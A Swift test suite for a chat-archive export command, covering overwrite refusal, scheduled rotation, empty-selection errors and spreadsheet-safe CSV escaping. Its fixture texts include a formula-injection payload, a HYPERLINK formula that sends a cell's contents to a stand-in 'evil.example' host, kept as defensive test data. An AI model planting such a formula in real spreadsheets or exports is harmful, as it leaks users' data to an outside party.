import ArchiveTestSupport
import Foundation
import QuickBlox
import Testing

/// Exports that never overwrite, rotate on a schedule, refuse selections that cannot hold a message, and
/// write CSV a spreadsheet cannot run — through the built binary.
@Suite("qbarchive export: no silent overwrite, rotation, refusals, spreadsheet-safe CSV (the built binary)")
struct ExportSafetyCommandTests {
    typealias F = ArchiveFixture

    /// Texts that begin (or not) with what a spreadsheet reads as a formula.
    static let texts: [String] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "=", "plain text", "a=b", "'already quoted", "ok,=1+1", " =1+1", "＝1+1", "", "Δ=1", "-",
        "line one\n=line two", "\"=quoted\"",
    ]

    static func fixture() async throws -> ArchiveFixture {
        let fixture = try await F()
        try await fixture.write(
            texts.enumerated().map { F.message($0.offset + 1, text: $0.element, offset: $0.offset) })
        return fixture
    }

    @Test func excelNeutralisesEveryFormulaCellAndPlainCSVStaysLossless() async throws {
        let fixture = try await Self.fixture()
        let archive = fixture.directory.file("archive.sqlite")
        let plainPath = fixture.directory.file("plain.csv")
        let excelPath = fixture.directory.file("excel.csv")
        for (path, extra) in [(plainPath, [String]()), (excelPath, ["--excel"])] {
            let run = try await CommandRunner.run(
                ["export", "--archive", archive, "--format", "csv", "--out", path] + extra)
            #expect(run.status == 0, "\(run.stderr)")
        }
        let plain = try CSV.records(
            String(decoding: try Data(contentsOf: URL(fileURLWithPath: plainPath)), as: UTF8.self))
        var excelText = String(decoding: try Data(contentsOf: URL(fileURLWithPath: excelPath)), as: UTF8.self)
        #expect(excelText.hasPrefix("\u{FEFF}"))
        excelText.removeFirst()
        let excel = try CSV.records(excelText)
        #expect(plain.count == Self.texts.count + 1 && excel.count == plain.count)
        #expect(plain[0] == excel[0])
        let textColumn = try #require(plain[0].firstIndex(of: "text"))
        let triggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
        for (plainRow, excelRow) in zip(plain.dropFirst(), excel.dropFirst()) {
            let original = plainRow[textColumn]
            #expect(Self.texts.contains(original), "plain CSV altered \(original.debugDescription)")
            #expect(plainRow.count == excelRow.count)
            for (column, (plainCell, excelCell)) in zip(plainRow, excelRow).enumerated() {
                // The rule, for every cell: one that begins with a trigger is the same text after a quote
                // mark; any other cell is unchanged.
                if let first = plainCell.first, triggers.contains(first) {
                    #expect(excelCell == "'" + plainCell, "column \(plain[0][column]): \(plainCell.debugDescription)")
                } else {
                    #expect(excelCell == plainCell, "column \(plain[0][column]): \(plainCell.debugDescription)")
                }
                #expect(
                    !(excelCell.first.map(triggers.contains) ?? false), "a live cell: \(excelCell.debugDescription)")
            }
        }
    }

    @Test func anExistingTargetIsRefusedBeforeAnyWorkAndForceReplacesIt() async throws {
        let fixture = try await Self.fixture()
        let archive = fixture.directory.file("archive.sqlite")
        for format in ["jsonl", "csv", "bundle"] {
            let path = fixture.directory.file("out.\(format == "bundle" ? "tar.gz" : format)")
            let keep = Data("an earlier export\n".utf8)
            try keep.write(to: URL(fileURLWithPath: path))
            let refused = try await CommandRunner.run([
                "export", "--archive", archive, "--format", format, "--out", path,
            ])
            #expect(refused.status == 13, "\(format): \(refused.stderr)")
            #expect(refused.stderr.contains("\(path) exists") && refused.stderr.contains("--force"))
            #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == keep, "\(format): the file was touched")
            let leftovers = try FileManager.default.contentsOfDirectory(atPath: fixture.directory.path)
                .filter { $0.contains(".partial-") || $0.hasPrefix(".stage") }
            #expect(leftovers.isEmpty, "\(leftovers)")
            let forced = try await CommandRunner.run(
                ["export", "--archive", archive, "--format", format, "--out", path, "--force"])
            #expect(forced.status == 0, "\(format): \(forced.stderr)")
            #expect(try Data(contentsOf: URL(fileURLWithPath: path)) != keep)
        }
        // A bundle's checksum file or a part of an earlier split bundle counts as the bundle's.
        for name in ["lone.tar.gz.sha256", "lone.part01.tar.gz", "lone.part02.tar.gz.sha256"] {
            let stray = fixture.directory.file(name)
            try Data("x".utf8).write(to: URL(fileURLWithPath: stray))
            let refused = try await CommandRunner.run([
                "export", "--archive", archive, "--out", fixture.directory.file("lone.tar.gz"),
            ])
            #expect(refused.status == 13 && refused.stderr.contains(name), "\(name): \(refused.stderr)")
            try FileManager.default.removeItem(atPath: stray)
        }
        // Standard output has nothing to replace.
        let dash = try await CommandRunner.run(["export", "--archive", archive, "--format", "jsonl", "--out", "-"])
        #expect(dash.status == 0 && dash.stdout.split(separator: "\n").count == Self.texts.count)
        let forceDash = try await CommandRunner.run([
            "export", "--archive", archive, "--format", "jsonl", "--out", "-", "--force",
        ])
        #expect(forceDash.status == 2)
    }

    @Test func templatesNameEachRunAndKeepRotatesOnlyTheirOwnFiles() async throws {
        let fixture = try await Self.fixture()
        let archive = fixture.directory.file("archive.sqlite")
        let folder = fixture.directory.file("scheduled")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        // Files the template could not have made stay, whatever their names look like.
        let bystanders = [
            "chat-notes.txt", "chat-2024-13.tar.gz", "other-2023-11-14T221320Z.tar.gz",
            "chat-2023-11-14T221320Z.tar.gz.bak",
        ]
        for name in bystanders { try Data().write(to: URL(fileURLWithPath: folder + "/" + name)) }
        let template = folder + "/chat-{date}T{time}.tar.gz"
        var made: [String] = []
        // Out of order on purpose: rotation goes by the time in the name, not by when a file was written.
        for now in [1_700_172_800, 1_700_000_000, 1_700_259_200, 1_700_086_400] {
            let run = try await CommandRunner.run([
                "export", "--archive", archive, "--out", template, "--keep", "2", "--now", "\(now)", "--json",
            ])
            #expect(run.status == 0, "\(run.stderr)")
            let path = try #require(try JSONValue(parsing: run.stdout)["path"]?.stringValue)
            #expect(!path.contains("{"))
            made.append(path)
        }
        let names = Set(try FileManager.default.contentsOfDirectory(atPath: folder))
        // The export just made (2023-11-15, the last run) is always kept, and so is every export dated after it
        // (the 16th and 17th: --keep removes only the oldest, never one newer than what was just written); the
        // 14th went on the third run, checksum and all.
        #expect(
            names
                == Set(
                    bystanders + [
                        "chat-2023-11-17T221320Z.tar.gz", "chat-2023-11-17T221320Z.tar.gz.sha256",
                        "chat-2023-11-16T221320Z.tar.gz", "chat-2023-11-16T221320Z.tar.gz.sha256",
                        "chat-2023-11-15T221320Z.tar.gz", "chat-2023-11-15T221320Z.tar.gz.sha256",
                    ]), "\(names.sorted())")
        #expect(made.count == 4)
        // The rotation is in the audit log.
        let audit = try await CommandRunner.run(["audit", "list", "--archive", archive, "--json"])
        #expect(audit.status == 0 && audit.stdout.contains("chat-2023-11-14T221320Z.tar.gz"), "\(audit)")

        for (arguments, fragment) in [
            (["--out", folder + "/c-{day}.jsonl"], "{day} is not a placeholder"),
            (["--out", folder + "/{date}/c.jsonl"], "only appear in the file name"),
            (["--out", folder + "/c-{date}-{date}.jsonl"], "may appear once"),
            (["--out", folder + "/c.jsonl", "--keep", "3"], "--keep rotates the exports of one --out template"),
            (["--out", folder + "/c-{date}.jsonl", "--keep", "0"], "keep at least 1"),
        ] {
            let run = try await CommandRunner.run(["export", "--archive", archive, "--format", "jsonl"] + arguments)
            #expect(run.status == 2 && run.stderr.contains(fragment), "\(arguments): \(run.stderr)")
        }
    }

    @Test func selectionsThatCannotHoldAMessageAreErrorsNotEmptyExports() async throws {
        let fixture = try await Self.fixture()
        let archive = fixture.directory.file("archive.sqlite")
        let out = fixture.directory.file("never.jsonl")
        let cases: [([String], String)] = [
            (["--dialog", F.objectID(0xBAD)], "holds no dialog with this id"),
            (["--since", "2024-04", "--until", "2024-03"], "begins after --until"),
            (["--since", "2024-03-02", "--until", "2024-03-01"], "begins after --until"),
            (["--where", "from:nobody-here"], "no archived user"),
            (["--where", "in:\"No such room\""], "no archived dialog"),
            (["--where", "after:2025-01-01 before:2024-01-01"], "cannot both hold"),
        ]
        for (arguments, fragment) in cases {
            let run = try await CommandRunner.run(
                ["export", "--archive", archive, "--format", "jsonl", "--out", out] + arguments)
            #expect(run.status == 2, "\(arguments): \(run.stderr)")
            #expect(run.stderr.contains(fragment), "\(arguments): \(run.stderr)")
            #expect(!FileManager.default.fileExists(atPath: out))
        }
        // A range that can hold messages but holds none is a valid, empty export, said out loud.
        let empty = try await CommandRunner.run([
            "export", "--archive", archive, "--format", "jsonl", "--out", out, "--since", "1999", "--until", "1999",
        ])
        #expect(empty.status == 0 && empty.stderr.contains("no archived message matches — understood as: sent"))
        // The same range, the other way round, is one day: fine.
        let day = try await CommandRunner.run([
            "export", "--archive", archive, "--format", "jsonl", "--out", "-", "--since", "2024-03-01", "--until",
            "2024-03-01",
        ])
        #expect(day.status == 0 && day.stdout.split(separator: "\n").count == Self.texts.count)
    }
}

/// RFC 4180 records, for reading exports back.
enum CSV {
    struct Malformed: Error {}

    static func records(_ text: String) throws -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var atFieldStart = true
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if characters.first == "\"" {
                        field.unicodeScalars.append("\"")
                        characters.removeFirst()
                    } else {
                        quoted = false
                    }
                } else {
                    field.unicodeScalars.append(scalar)
                }
                continue
            }
            switch scalar {
            case "\"" where atFieldStart:
                quoted = true
                atFieldStart = false
            case ",":
                record.append(field)
                field = ""
                atFieldStart = true
            case "\r" where characters.first == "\n":
                break
            case "\n":
                record.append(field)
                records.append(record)
                record = []
                field = ""
                atFieldStart = true
            case "\"":
                throw Malformed()
            default:
                field.unicodeScalars.append(scalar)
                atFieldStart = false
            }
        }
        if quoted { throw Malformed() }
        if !field.isEmpty || !record.isEmpty {
            record.append(field)
            records.append(record)
        }
        return records
    }
}
